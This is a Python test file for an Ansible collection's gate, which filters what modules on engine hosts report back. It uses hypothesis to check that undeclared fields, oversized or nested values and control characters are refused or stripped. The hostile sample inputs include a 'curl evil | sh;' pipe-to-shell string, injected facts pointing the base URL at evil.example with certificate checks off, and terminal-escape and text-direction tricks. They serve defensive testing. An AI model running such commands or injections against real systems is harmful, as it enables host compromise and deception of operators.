"""The gate for what comes from an engine host: whatever it says, only what is declared gets in, and clean."""

from __future__ import annotations

import ast
import importlib
import json
import unicodedata
from pathlib import Path
from typing import Any, get_args

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from ansible_collections.slb.fleet.plugins.module_utils import _observation as observation
from ansible_collections.slb.fleet.plugins.module_utils._errors import FleetError
from ansible_collections.slb.fleet.plugins.module_utils._visible import visible
from ansible_collections.slb.fleet.plugins.plugin_utils._evidence import (
    ContainerState,
    EngineIdentity,
    Policy,
    RecordState,
)
from ansible_collections.slb.fleet.plugins.plugin_utils._host_answer import HostAnswerError, shape_of, taken
from ansible_collections.slb.fleet.plugins.plugin_utils._host_plan import host_plan
from ansible_collections.slb.fleet.plugins.plugin_utils._on_host import OnHostAction
from ansible_collections.slb.fleet.plugins.plugin_utils._progress import Progress
from ansible_collections.slb.fleet.plugins.plugin_utils._run_store import RunStore

MODULES = ("host_info", "engine_container", "engine_record", "motd", "interface")
LOOK = {"engine_container": {"state": "running", "uptime": 5.5}, "record": {"state": "none"}, "root": True}

anything = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(),
    lambda inner: st.lists(inner) | st.dictionaries(st.text(), inner),
    max_leaves=20,
)


def test_what_is_declared_comes_in_as_it_is() -> None:
    assert taken("host_info", {"slb_host": LOOK, "changed": False}) == {"slb_host": LOOK, "changed": False}


def test_what_a_module_says_is_what_it_is_documented_to_say() -> None:
    """What is not documented would be lost, and nobody would be told."""
    look = observation.observe(list(observation.SUBSETS))
    assert taken("host_info", {"slb_host": look}) == {"slb_host": look}


@pytest.mark.parametrize(
    "extra",
    [
        {"ansible_facts": {"slb_base_url": "https://evil.example", "slb_validate_certs": False}},
        {"add_host": {"host_name": "evil", "groups": ["engines"]}},
        {"add_group": "slb_needs_work"},
        {"ansible_stats": {"data": {}}},
        {"_ansible_no_log": True},
        {"invocation": {"module_args": {}}},
        {"skipped": True},
        {"results": [{"failed": True}]},
        {"unreachable": True},
        {"warnings": ["\x1b[2J"]},
        {"deprecations": [{"msg": "x"}]},
    ],
    ids=lambda extra: next(iter(extra)),
)
def test_what_is_not_declared_does_not(extra: dict[str, Any]) -> None:
    assert taken("host_info", {"slb_host": LOOK, **extra}) == {"slb_host": LOOK}
    deep = {**LOOK, **extra, "engine_container": {**LOOK["engine_container"], **extra}}
    assert taken("host_info", {"slb_host": deep}) == {"slb_host": LOOK}


@pytest.mark.parametrize(
    ("lie", "where"),
    [
        ({"engine_container": {"uptime": "abc"}}, "slb_host.engine_container.uptime is not a number"),
        ({"engine_container": {"uptime": float("nan")}}, "slb_host.engine_container.uptime"),
        ({"engine_container": {"restart_count": 10**30}}, "slb_host.engine_container.restart_count"),
        ({"engine_container": {"state": ["running"]}}, "slb_host.engine_container.state is not text"),
        (
            {"engine_container": {"runtime": "curl evil | sh;"}},
            "slb_host.engine_container.runtime is not one of docker",
        ),
        ({"engine_container": {"why": "x" * 100_000}}, "slb_host.engine_container.why"),
        ({"engine_container": "running"}, "slb_host.engine_container is not a mapping"),
        ({"root": "yes"}, "slb_host.root is not true or false"),
        ({"ports": [{}] * 20_000}, "slb_host.ports is not a list of at most"),
        ({"ports": {"22": {}}}, "slb_host.ports is not a list"),
    ],
)
def test_what_does_not_fit_is_that_hosts_failure_in_words(lie: dict[str, Any], where: str) -> None:
    with pytest.raises(FleetError) as raised:
        taken("host_info", {"slb_host": lie})
    assert where in str(raised.value)
    assert len(str(raised.value)) < 500


@pytest.mark.parametrize(
    "text", ["a\nok: [edge-2] => verified in the engine list", "a\r\x1b[1A", "\u202egnp.exe", "\u2028x", "\x9b"]
)
def test_words_cannot_forge_a_line_or_move_a_cursor(text: str) -> None:
    shown = taken("host_info", {"msg": text})["msg"]
    assert all(unicodedata.category(character) not in ("Cc", "Cf", "Zl", "Zp") for character in shown)
    assert "\n" not in shown


def test_every_module_that_runs_on_hosts_comes_in_through_the_gate() -> None:
    here = "ansible_collections.slb.fleet.plugins"
    folder = Path(importlib.import_module(f"{here}.modules.motd").__file__ or "").parent
    on_hosts = {path.stem for path in folder.glob("*.py") if "attributes.engine_host" in path.read_text()}
    assert on_hosts == set(MODULES)
    for module in MODULES:
        action = importlib.import_module(f"{here}.action.{module}").ActionModule
        assert issubclass(action, OnHostAction), module


def test_nothing_else_starts_a_module_on_a_host() -> None:
    """But for the one that gives objects of AWX to that collection's modules, and takes a number of what they say."""
    folder = Path(importlib.import_module("ansible_collections.slb.fleet.plugins.action.motd").__file__ or "").parent
    starts = {
        "_execute_module",
        "_low_level_execute_command",
        "_fetch_file",
        "_remote_expand_user",
        "_execute_remote_stat",
    }
    found = {
        path.name: {node.attr for node in ast.walk(ast.parse(path.read_text())) if isinstance(node, ast.Attribute)}
        & starts
        for path in folder.parent.rglob("*.py")
    }
    assert {name: used for name, used in found.items() if used} == {
        "_on_host.py": {"_execute_module", "_low_level_execute_command"},
        "awx_object.py": {"_execute_module"},
    }
    modules = {path.stem for path in (folder.parent / "modules").glob("*.py")} - {"__init__"}
    assert {path.stem for path in folder.glob("*.py")} - {"__init__"} == modules, "no module without an action of ours"


def test_other_languages_stay_readable() -> None:
    assert visible("端口被占用 — déjà vu") == "端口被占用 — déjà vu"


def _values(field: dict[str, Any]) -> st.SearchStrategy[Any]:
    """What a field may be as it is documented, and now and then something else."""
    contains = field.get("contains")
    kinds: dict[str, st.SearchStrategy[Any]] = {
        "bool": st.booleans(),
        "int": st.integers() | st.sampled_from([10**400, -(2**63), 2**63 - 1]),
        "float": st.floats() | st.integers(),
        "str": st.text()
        | st.sampled_from(["requested", "verified", "absent", "running", "\ud800", "\x1b[2J", "x" * 9000]),
    }
    if field["type"] == "dict":
        right = _mappings(contains) if contains else st.dictionaries(st.text(), anything)
    elif field["type"] == "list":
        right = st.lists(_values({"type": field.get("elements", "str"), "contains": contains}), max_size=3)
    else:
        right = kinds[field["type"]]
    return st.one_of(right, right, right, anything)


def _mappings(fields: dict[str, Any]) -> st.SearchStrategy[Any]:
    return st.fixed_dictionaries({}, optional={name: _values(field) for name, field in fields.items()})


def _assert_is_of(value: Any, field: dict[str, Any], path: str) -> None:
    """``value`` is exactly what the documentation says that it is, and nothing that is shown can do harm."""
    kind = {"bool": bool, "int": int, "float": (int, float), "str": str, "dict": dict, "list": list}[field["type"]]
    if value is None:
        return
    assert isinstance(value, kind), path
    assert isinstance(value, bool) is (field["type"] == "bool"), path
    if isinstance(value, list):
        for each in value:
            _assert_is_of(each, {"type": field.get("elements", "str"), "contains": field.get("contains")}, path)
    elif isinstance(value, dict) and field.get("contains"):
        assert set(value) <= set(field["contains"]), path
        for name, each in value.items():
            _assert_is_of(each, field["contains"][name], f"{path}.{name}")
    else:
        _assert_is_plain(value, path)


def _assert_is_plain(value: Any, path: str) -> None:
    if isinstance(value, str):
        assert visible(value) == value, path
    elif isinstance(value, dict):
        for name, each in value.items():
            _assert_is_plain(name, path)
            _assert_is_plain(each, path)
    elif isinstance(value, list):
        for each in value:
            _assert_is_plain(each, path)
    else:
        assert value is None or isinstance(value, (bool, int, float)), path


@pytest.mark.parametrize("module", MODULES)
@settings(max_examples=60, suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large])
@given(data=st.data())
def test_whatever_a_host_says_the_gate_gives_its_shape_or_refuses(module: str, data: st.DataObject) -> None:
    shape = shape_of(module)
    extra = data.draw(st.dictionaries(st.text() | st.sampled_from(["ansible_facts", "add_host", "diff"]), anything))
    answer = {**extra, **data.draw(_mappings(shape))}
    asked = {"subset": data.draw(st.lists(st.sampled_from(["engine_container", "record", "ports", "motd"])))}
    try:
        accepted = taken(module, answer, asked)
    except HostAnswerError as error:
        assert str(error).isprintable()
        assert len(str(error)) < 1000
        return
    for name, value in accepted.items():
        if name in shape:
            _assert_is_of(value, shape[name], name)
        else:
            assert name in ("diff", "module_stderr", "module_stdout")
            assert set(value) <= {"before", "after", "before_header", "after_header"} or isinstance(value, str)
    assert len(json.dumps(accepted, allow_nan=False)) <= 1024 * 1024


@settings(max_examples=150, suppress_health_check=[HealthCheck.too_slow])
@given(data=st.data())
def test_whatever_look_comes_through_the_gate_can_be_decided_about(data: st.DataObject) -> None:
    """No value in it stops the decision half-way: a host that lies is told so, or has its host_plan."""
    shape = shape_of("host_info")
    look = data.draw(_mappings(shape["slb_host"]["contains"]))
    for name, states in (("engine_container", ContainerState), ("record", RecordState)):
        part = look.get(name)
        if isinstance(part, dict):
            look[name] = {**part, "state": data.draw(st.sampled_from(get_args(states)))}
    try:
        seen = taken("host_info", {"slb_host": look}, {"subset": ["engine_container", "record", "ports"]})["slb_host"]
    except HostAnswerError:
        return
    engine = EngineIdentity("edge-1", "192.0.2.1", "https://node.example")
    listing = [{"name": "edge-1", "address": "192.0.2.1", "state": "running", "console_state": "running"}]
    for answer in ("none", "requested", "exists", "port_in_use"):
        for reading in (None, listing, "the list cannot be read"):
            progress = Progress(asked=1, answer=answer, asked_at=0)
            decision = host_plan("edge-1", seen, engine, reading, Policy(), progress, RunStore.in_memory(), now=5)
            assert visible(decision.reason) == decision.reason
            assert all(visible(phrase) == phrase for phrase in decision.evidence)


def test_a_whole_number_of_any_size_is_refused_in_words() -> None:
    with pytest.raises(HostAnswerError, match="restart_count is not a whole number"):
        taken("host_info", {"slb_host": {"engine_container": {"restart_count": 10**400}}})


def test_a_value_of_any_depth_is_refused_in_words() -> None:
    deep: list[Any] = []
    for _level in range(100_000):
        deep = [deep]
    for answer in ({"slb_host": deep}, {"slb_host": {"addresses": deep}}, {"slb_host": {"motd": {"sources": [deep]}}}):
        with pytest.raises(HostAnswerError):
            taken("host_info", answer)
    with pytest.raises(HostAnswerError):
        taken("engine_container", {"before": {"a": deep}})


def test_many_parts_that_are_each_small_enough_are_too_much() -> None:
    with pytest.raises(HostAnswerError, match="larger than"):
        taken("host_info", {"slb_host": {"addresses": ["x" * 8000] * 4000}})


@pytest.mark.parametrize(
    ("look", "where"),
    [
        (None, "slb_host.engine_container is not there"),
        ({}, "slb_host.engine_container is not there"),
        ({"engine_container": {}}, "slb_host.engine_container.state is not one of absent"),
        ({"engine_container": {"state": "sleeping"}}, "but 'sleeping'"),
        ({**LOOK, "record": {"state": "verified"}}, "slb_host.record.name is not there"),
        ({**LOOK, "record": {"state": "none", "age": None}}, "slb_host.record.age is not there"),
        ({**LOOK, "ports": [{"port": 22}]}, "slb_host.ports[0].process is not there"),
        ({**LOOK, "set_aside": {"id": "x"}}, "slb_host.set_aside.name is not there"),
    ],
)
def test_what_was_asked_for_has_to_be_there(look: Any, where: str) -> None:
    with pytest.raises(HostAnswerError) as raised:
        taken("host_info", {"slb_host": look}, {"subset": ["engine_container", "record"]})
    assert where in str(raised.value)


def test_what_was_asked_for_may_be_written_as_text() -> None:
    """As it is where one types it: `-m slb.fleet.host_info -a subset=engine_container,record`."""
    assert taken("host_info", {"slb_host": LOOK}, {"subset": "engine_container,record"})["slb_host"]["record"]
    with pytest.raises(HostAnswerError, match=r"slb_host\.ports is not there"):
        taken("host_info", {"slb_host": {**LOOK, "ports": None}}, {"subset": "ports"})


@pytest.mark.parametrize(
    ("record", "where"),
    [
        (None, "record.state is not requested, as it was to be noted, but None"),
        ({}, "record.state is not requested"),
        ({"state": "none"}, "record.state is not requested, as it was to be noted, but 'none'"),
        ({"state": "verified", "requested_at": 5.5}, "record.state is not requested"),
        ({"state": "requested"}, "record.requested_at is not there"),
        ({"state": "requested", "requested_at": None}, "record.requested_at is not there"),
    ],
)
def test_what_was_to_be_noted_has_to_be_noted(record: Any, where: str) -> None:
    with pytest.raises(HostAnswerError) as raised:
        taken("engine_record", {"changed": True, "record": record}, {"state": "requested"})
    assert where in str(raised.value)


def test_a_note_that_failed_is_the_hosts_to_explain() -> None:
    said = {"failed": True, "msg": "No room.", "record": None}
    assert taken("engine_record", said, {"state": "requested"}) == said
